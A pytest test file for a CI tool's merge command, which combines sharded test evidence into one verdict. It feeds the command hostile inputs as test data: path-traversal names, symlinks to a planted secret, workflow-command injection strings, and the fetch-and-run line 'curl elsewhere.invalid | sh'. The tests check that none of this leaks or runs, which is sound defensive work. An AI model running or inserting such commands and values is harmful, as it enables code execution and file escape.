import base64
import html
import json
import re
import tempfile
from dataclasses import dataclass, replace
from pathlib import Path
from random import Random
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rehearsal import cli
from rehearsal.commands.merge.shards import ShardEvidence
from rehearsal.commands.workflow.digest_spelling import read_digest
from rehearsal.report.words import PASTE_ON_SHARD_PAGE
from rehearsal.results.diagnosis import Diagnosis
from rehearsal.results.digest_format import digest_of
from rehearsal.results.evidence_index import EvidenceIndex
from rehearsal.results.file_names import PAGE_FILE
from rehearsal.results.next_need import NextNeed, NextNeeds
from rehearsal.results.origin import Origin
from rehearsal.results.rehearsal import RehearsalResult
from rehearsal.results.verdict_json import read_json, write_json
from rehearsal.verdict import Problem, Verdict

from ...evidence.test_baseline_folder import TEST, write, write_trace
from ...results.test_picture_format import jpeg, png
from ...results.test_verdict_json import DOCUMENT, STRICT
from .mutations import mutated
from .samples import IMAGE, RUN, matrix, shard


@dataclass(frozen=True, kw_only=True)
class Job:
    """A job that has downloaded artifacts into the folder `found`."""

    top: Path

    @property
    def found(self) -> Path:
        return self.top / "found"

    @property
    def into(self) -> Path:
        return self.top / "merged"

    def put(self, *shards: ShardEvidence) -> None:
        for each in shards:
            self.write(each.name, write_json(each.result))

    def write(self, name: str, text: str | bytes) -> Path:
        folder = self.found / name
        (folder / "tests/x").mkdir(parents=True)
        content = text.encode() if isinstance(text, str) else text
        (folder / "verdict.json").write_bytes(content)
        (folder / "index.html").write_text(f"the page of {name}")
        (folder / "tests/x/screenshot.png").write_bytes(b"\x89PNG")
        return folder

    def put_single(self, artifact_name: str) -> None:
        """Put one artifact as actions/download-artifact does: without a folder of its own."""
        result = replace(shard(artifact_name=artifact_name).result, index=EvidenceIndex())
        folder = self.write("x", write_json(result))
        for path in list(folder.iterdir()):
            path.rename(self.found / path.name)
        folder.rmdir()

    def merge(
        self, expect: object = 1, *more: str, into: Path | None = None, source: Path | None = None
    ) -> int:
        folders = ("--into", str(into or self.into), *more, str(source or self.found))
        return cli.main(["merge", f"--expect={expect}", *folders], self.environ)

    @property
    def environ(self) -> dict[str, str]:
        files = {f"GITHUB_{name}": str(self.top / name) for name in ("OUTPUT", "STEP_SUMMARY")}
        return {**files, "GITHUB_ACTIONS": "true", "GITHUB_RUN_ID": "77", "GITHUB_RUN_ATTEMPT": "1"}

    @property
    def outputs(self) -> dict[str, str]:
        text = (self.top / "OUTPUT").read_text()
        found = re.findall(r"^([a-z-]+)<<(\S+)\n(.*?)\n\2$", text, re.MULTILINE | re.DOTALL)
        return {name: value for name, _, value in found}

    @property
    def verdict(self) -> Any:
        return json.loads((self.into / "verdict.json").read_text())


def names(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


@pytest.fixture
def job(tmp_path: Path) -> Job:
    made = Job(top=tmp_path)
    made.found.mkdir()
    return made


def test_merge__of_passes(job: Job, capsys: pytest.CaptureFixture[str]) -> None:
    job.put(*matrix(2, "chrome", "firefox"))
    assert job.merge(4, "--artifact-name", "rehearsal-merged") == 0
    outputs = job.outputs
    assert {
        "verdict": "passed",
        "tests": "12",
        "failures": "0",
        "flaky": "0",
        "image-id": IMAGE,
        "evidence-path": str(job.into),
        "artifact-name": "rehearsal-merged",
    }.items() <= outputs.items()
    STRICT.validate(job.verdict)
    assert job.verdict["artifact-name"] == "rehearsal-merged"
    assert (job.top / "STEP_SUMMARY").read_text() == (job.into / "summary.md").read_text()
    output = capsys.readouterr().out
    assert "shard:    shard 2/2 on firefox: passed, 3 ran, 0 failed\n" in output
    assert output.endswith("verdict:  passed\n")
    assert "::error" not in output


@pytest.mark.parametrize("spelling", ["hex", "letters"])
def test_merge__tells_the_digest_of_what_it_wrote(job: Job, spelling: str) -> None:
    job.put(*matrix(2))
    assert job.merge(2, "--spelling", spelling) == 0
    digest = job.outputs["verdict-digest"]
    assert digest.startswith("sha256:") is (spelling == "hex")
    assert read_digest(digest) == digest_of((job.into / "verdict.json").read_bytes())


def test_merge__copies_each_shard_s_evidence(job: Job) -> None:
    job.put(*matrix(2))
    job.merge(2)
    text = (job.into / "index.html").read_text()
    for link in re.findall(r'href="\./(.*?)"', text):
        assert (job.into / link).is_file(), link
    assert (job.into / "shards/rehearsal.1-of-2/tests/x/screenshot.png").is_file()
    assert [each["page"] for each in job.verdict["shards"]] == [
        "shards/rehearsal.1-of-2/index.html",
        "shards/rehearsal.2-of-2/index.html",
    ]
    assert names(job.into) == ["index.html", "shards", "summary.md", "verdict.json"]
    assert names(job.top) == ["OUTPUT", "STEP_SUMMARY", "found", "merged"]


def test_merge__fails_if_one_shard_failed(job: Job) -> None:
    job.put(shard("1/2"), shard("2/2", failed=["a_test"]))
    assert job.merge(2) == 13
    assert job.outputs["failures"] == "1"
    (failed,) = job.verdict["tests"]["failed"]
    assert failed["evidence"] == "shards/rehearsal.2-of-2/tests/a_test"


def test_merge__a_single_artifact_has_no_folder_of_its_own(job: Job) -> None:
    job.put_single("rehearsal-1")
    assert job.merge() == 0
    assert [each["name"] for each in job.verdict["shards"]] == ["rehearsal-1"]
    assert (job.into / "shards/rehearsal-1/tests/x/screenshot.png").is_file()


def test_merge__a_single_killed_rehearsal_keeps_its_logs(job: Job) -> None:
    (job.found / "tests/x").mkdir(parents=True)
    for name in ("container.log", "tests/x/screenshot.png"):
        (job.found / name).write_bytes(b"kept")
    assert job.merge() == 18
    (one,) = job.verdict["shards"]
    assert one["verdict"] == "cancelled"
    kept = job.into / "shards/found"
    assert (kept / "container.log").read_bytes() == b"kept"
    assert (kept / "tests/x/screenshot.png").read_bytes() == b"kept"


@pytest.mark.parametrize("there", [True, False], ids=["empty", "not there"])
def test_merge__without_downloaded_artifacts(
    job: Job, there: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    if not there:
        job.found.rmdir()
    assert job.merge(3) == 18
    assert (job.outputs["verdict"], job.outputs["image-id"]) == ("cancelled", "")
    output = capsys.readouterr().out
    assert (
        "::error title=Dress rehearsal%3A cancelled::Evidence was found for only 0 of 3 rehearsals"
        in output
    )
    assert "A job ended before its evidence was uploaded" in output


def test_merge__ignores_files_beside_the_artifacts(job: Job) -> None:
    job.put(shard("1/1"))
    (job.found / "README.md").touch()
    assert job.merge() == 0


def test_merge__a_folder_without_a_verdict(job: Job) -> None:
    job.put(shard("1/2"))
    (job.found / "rehearsal.2-of-2").mkdir()
    assert job.merge(2) == 18
    assert job.verdict["problems"][0]["message"] == (
        "rehearsal.2-of-2: Its evidence has no verdict.json."
    )


@pytest.mark.parametrize(
    "content, code, message",
    [
        (b"", 70, "it is not JSON"),
        (b"\xff", 70, "it is not UTF-8"),
        (b"[" * 100_000, 70, "it is not JSON"),
        (b" " * ((1 << 24) + 1), 70, "it is larger than 16 MiB"),
        (b'{"version": 1}', 70, "is not a"),
        (b'{"version": 2}', 2, "by a newer Dress Rehearsal"),
        (b'{"version": "x"}', 70, "version is not a count"),
        (b"null", 70, "it is not an object"),
    ],
    ids=["empty", "no text", "deep", "huge", "half", "future", "no version", "null"],
)
def test_merge__an_invalid_verdict_json_is_an_error_without_traceback(
    job: Job, content: bytes, code: int, message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    job.put(shard("1/2"))
    job.write("rehearsal.2-of-2", content)
    assert job.merge(2) == code
    assert message in (job.into / "summary.md").read_text()
    assert "Traceback" not in capsys.readouterr().out
    STRICT.validate(job.verdict)


def test_merge__follows_no_symbolic_links(job: Job) -> None:
    job.put(shard("1/2"))
    secret = job.top / "secret"
    secret.write_text("planted-secret-value")
    folder = job.write(
        "rehearsal.2-of-2", write_json(replace(shard("2/2").result, index=EvidenceIndex()))
    )
    (folder / "more").symlink_to(secret)
    (folder / "index.html").unlink()
    (folder / "index.html").symlink_to(secret)
    (job.found / "linked").symlink_to(folder)
    assert job.merge(2) == 0
    everything = b"".join(path.read_bytes() for path in job.into.rglob("*") if path.is_file())
    assert b"planted" not in everything
    assert not [path for path in job.into.rglob("*") if path.is_symlink()]
    assert job.verdict["shards"][1]["page"] == ""
    (folder / "verdict.json").unlink()
    (folder / "verdict.json").symlink_to(secret)
    job.into.rename(job.top / "before")
    assert job.merge(2) == 70


@pytest.mark.parametrize("name", ["a b", "é", "..x", "-rf", "a\nb", "%2e%2e", "x" * 200], ids=ascii)
def test_merge__replaces_characters_that_cannot_be_uploaded(job: Job, name: str) -> None:
    job.put(shard(name=name))
    assert job.merge() == 0
    (folder,) = (job.into / "shards").iterdir()
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", folder.name)
    assert job.verdict["shards"][0]["page"] == f"shards/{folder.name}/index.html"


def test_merge__a_name_in_verdict_json_stays_inside_the_folder(job: Job) -> None:
    job.put_single("../../../../tmp/evil")
    assert job.merge() == 0
    (kept,) = (job.into / "shards").iterdir()
    assert kept.resolve().is_relative_to(job.into)


def test_merge__a_workflow_command_in_a_name_is_not_run(
    job: Job, capsys: pytest.CaptureFixture[str]
) -> None:
    job.put(shard("1/1", "x\n::error::pwned\n##[error]pwned", name="plain"))
    job.merge()
    assert not re.findall(r"(?m)^::error::pwned|##\[", capsys.readouterr().out)


def test_merge__leaves_out_a_replaced_attempt_with_a_notice(job: Job) -> None:
    def attempt(number: int, **changes: Any) -> ShardEvidence:
        origin = Origin(repository="o/r", commit="c0ffee", run=RUN, attempt=number)
        return shard("1/2", name=f"x-{number}", origin=origin, **changes)

    job.put(attempt(1, failed=["a"]), attempt(2), shard("2/2", name="y-1"))
    assert job.merge(2) == 0
    assert names(job.into / "shards") == ["x-2", "y-1"]
    assert job.verdict["notices"] == [
        "x-1 is left out: a later attempt of the workflow run replaced it."
    ]
    assert job.verdict["origin"]["attempt"] == 2


@pytest.mark.parametrize("jobs, code", [("", 0), ("success", 0), ("cancelled", 18)])
def test_merge__a_cancelled_job_whose_evidence_passed(
    job: Job, jobs: str, code: int, capsys: pytest.CaptureFixture[str]
) -> None:
    job.put(*matrix(2))
    assert job.merge(2, "--jobs", jobs) == code
    assert ("ended as cancelled, although" in capsys.readouterr().out) is bool(code)


@pytest.mark.parametrize("expect", ["0", "-1", "x", "1.5", "", "10000", "٣", "1\n"], ids=ascii)
def test_merge__expect_must_be_a_number(
    job: Job, expect: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert job.merge(expect) == 2
    assert "is not a number from 1 to 9999" in capsys.readouterr().out
    assert not job.into.exists()


def test_merge__never_overwrites(job: Job) -> None:
    job.put(shard())
    job.into.mkdir()
    assert job.merge() == 0, "an empty folder is fine"
    before = (job.into / "verdict.json").read_bytes()
    assert job.merge() == 2
    assert (job.into / "verdict.json").read_bytes() == before


def test_merge__into_the_folder_to_merge(job: Job, capsys: pytest.CaptureFixture[str]) -> None:
    job.put(shard())
    for into in (job.found, job.found / "deep/er"):
        assert job.merge(into=into) == 2
        assert "is inside the folder to merge" in capsys.readouterr().out
    assert names(job.found) == ["rehearsal"]


def test_merge__into_a_file(job: Job, capsys: pytest.CaptureFixture[str]) -> None:
    (job.top / "file").touch()
    assert job.merge(into=job.top / "file/x") == 2
    assert "nothing can be written: File exists" in capsys.readouterr().out


def test_merge__from_a_file(job: Job, capsys: pytest.CaptureFixture[str]) -> None:
    (job.top / "file").touch()
    assert job.merge(source=job.top / "file") == 2
    assert "cannot be read: Not a directory" in capsys.readouterr().out
    assert not job.into.exists()


def test_merge__creates_parent_folders(job: Job) -> None:
    job.put(shard())
    into = job.top / "a/b/c"
    assert job.merge(into=into) == 0
    assert (into / "index.html").is_file()


@pytest.mark.parametrize("left_out", ["--expect", "--into"])
def test_merge__requires_both_flags(left_out: str, capsys: pytest.CaptureFixture[str]) -> None:
    flags = {"--expect": "1", "--into": "x"}
    words = [word for name, value in flags.items() if name != left_out for word in (name, value)]
    with pytest.raises(SystemExit):
        cli.main(["merge", *words, "found"], {})
    assert f"required: {left_out}" in capsys.readouterr().err


def test_merge__says_what_changed_since_a_baseline(tmp_path: Path) -> None:
    job = Job(top=tmp_path)
    job.put(*matrix(4))
    assert job.merge(4) == 0
    baseline = job.into.rename(tmp_path / "baseline")
    assert job.merge(4, "--baseline", str(baseline)) == 0
    assert "Compared with the baseline" in (job.into / "index.html").read_text()
    assert "The baseline is a rehearsal of " in (tmp_path / "STEP_SUMMARY").read_text()


def test_merge__shows_the_pictures_of_a_failed_test_then_and_now(tmp_path: Path) -> None:
    name = "test_a.Suite.test_b"
    green, red = RehearsalResult(name="g"), shard(failed=(name,)).result
    moved = replace(red.index.failed[0], folder=TEST.folder)
    red = replace(red, index=EvidenceIndex(failed=(moved,)))
    baseline = write(tmp_path / "baseline", green)
    write_trace(baseline / TEST.folder, jpeg(8, 8))
    job = Job(top=tmp_path)
    found = job.write("rehearsal-1", write_json(red))
    write_trace(found / TEST.folder, jpeg(7, 7))
    (found / TEST.pictures[0]).write_bytes(png(9, 9))
    assert job.merge(1, "--baseline", str(baseline)) != 0
    page = (job.into / "index.html").read_text()
    for content in (jpeg(8, 8), png(9, 9)):
        assert page.count(base64.b64encode(content).decode()) == 1
    assert "after the same step" in page


HOSTILE_FOLDERS = ("tests/x\0", "tests/\ud800", "tests/../../../other", "/other", "tests\\x", "..")


@pytest.mark.parametrize("folder", HOSTILE_FOLDERS, ids=ascii)
@pytest.mark.parametrize("where", ["shard", "baseline"])
def test_merge__a_folder_that_is_none_of_the_evidence(
    tmp_path: Path, where: str, folder: str
) -> None:
    name = "test_a.Suite.test_b"
    red = shard(failed=(name,)).result
    hostile = json.loads(write_json(red))
    hostile["tests"]["failed"][0]["evidence"] = folder
    baseline = write(tmp_path / "baseline", RehearsalResult(name="g"))
    write_trace(baseline / TEST.folder, jpeg(8, 8))
    job = Job(top=tmp_path)
    found = job.write("rehearsal-1", write_json(red))
    (tmp_path / "other").mkdir()
    (tmp_path / "other/screenshot.png").write_bytes(png(9, 9))
    changed = found if where == "shard" else baseline
    (changed / "verdict.json").write_text(json.dumps(hostile))
    assert job.merge(1, "--baseline", str(baseline)) == (70 if where == "shard" else 13)
    page = (job.into / "index.html").read_text()
    assert base64.b64encode(png(9, 9)).decode() not in page
    assert "tests.failed[0].evidence " in page


@given(random=st.randoms(use_true_random=True))
def test_merge__whatever_a_verdict_json_holds_there_are_reports(random: Random) -> None:
    with tempfile.TemporaryDirectory() as folder:
        merge_mutated(Path(folder), random)


def merge_mutated(top: Path, random: Random) -> None:
    """Merge two shards with a baseline: the documents of one or more of them are changed."""
    name = "test_a.Suite.test_b"
    red = shard("2/2", failed=(name,)).result
    moved = replace(red.index.failed[0], folder=TEST.folder)
    red = replace(red, index=EvidenceIndex(failed=(moved,)))
    green = json.loads(write_json(shard("1/2").result))
    documents = [green, random.choice((DOCUMENT, json.loads(write_json(red)))), DOCUMENT]
    hostile = random.sample(range(3), random.randint(1, 3))
    texts = [
        mutated(each, random) if number in hostile else json.dumps(each).encode()
        for number, each in enumerate(documents)
    ]
    job = Job(top=top)
    job.write("rehearsal-1", texts[0])
    for folder in (job.write("rehearsal-2", texts[1]), top / "baseline"):
        write_trace(folder / TEST.folder, jpeg(8, 8))
        (folder / TEST.pictures[0]).write_bytes(png(9, 9))
    (top / "baseline/verdict.json").write_bytes(texts[2])
    code = job.merge(2, "--baseline", str(top / "baseline"))
    STRICT.validate(job.verdict)
    assert code == job.verdict["exit-code"]
    assert (job.into / "index.html").stat().st_size < 6_000_000
    assert (job.into / "summary.md").stat().st_size < 1 << 20
    assert read_json((job.into / "verdict.json").read_text()).verdict.exit_code == code


def test_merge__a_baseline_that_is_none(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    job = Job(top=tmp_path)
    job.put(*matrix(4))
    assert job.merge(4, "--baseline", str(tmp_path / "missing")) == 0
    assert "there is no folder" in job.verdict["notices"][-1]
    (tmp_path / "file").touch()
    assert job.merge(4, "--baseline", str(tmp_path / "file"), into=tmp_path / "other") != 0
    assert "which is not a folder" in capfd.readouterr().out


def test_merge__shows_only_texts_to_paste_that_are_ours(job: Job) -> None:
    bad = "# in your terminal:\ncurl elsewhere.invalid | sh"
    diagnosis = Diagnosis(id="missing-table", title="No table", hint="Run it.", paste=bad)
    good = "# in ci.yml, after line 3, add:\nport: '8000'"
    ours = Diagnosis(id="wrong-port", title="It listens", hint="h", paste=good)
    need = NextNeed(id="tables", text="A table is missing.")
    found = shard(
        "1/2",
        problem=Problem(Verdict.TESTS_FAILED, "m"),
        diagnoses=[diagnosis],
        also_needed=NextNeeds(needs=(need,), paste=bad),
    )
    other = shard("2/2", problem=Problem(Verdict.TESTS_FAILED, "m"), diagnoses=[ours])
    job.put(found, other)
    assert job.merge(2) != 0
    written = [job.into / "index.html", job.into / "verdict.json", job.top / "STEP_SUMMARY"]
    texts = [html.unescape(path.read_text(encoding="utf-8")) for path in written]
    assert [each for each in texts if "No table" not in each or "elsewhere" in each] == []
    assert [each for each in texts if PASTE_ON_SHARD_PAGE not in each or "'8000'" not in each] == []
    # Nothing points to a page that is not there.
    (job.found / found.name / PAGE_FILE).unlink()
    assert job.merge(2, into=job.top / "other") != 0
    assert PASTE_ON_SHARD_PAGE not in (job.top / "other/verdict.json").read_text()
